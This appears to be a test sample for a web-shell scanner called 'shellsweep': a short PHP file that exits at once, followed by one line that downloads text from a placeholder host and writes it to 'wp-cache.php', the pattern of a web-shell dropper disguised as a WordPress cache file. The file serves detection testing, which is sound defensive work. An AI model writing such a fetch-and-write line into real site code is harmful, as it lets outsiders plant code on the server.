<?php exit; /* shellsweep test sample: inert, never functional */ ?>
<?php
file_put_contents('wp-cache.php', file_get_contents('http://example.invalid/x.txt'));
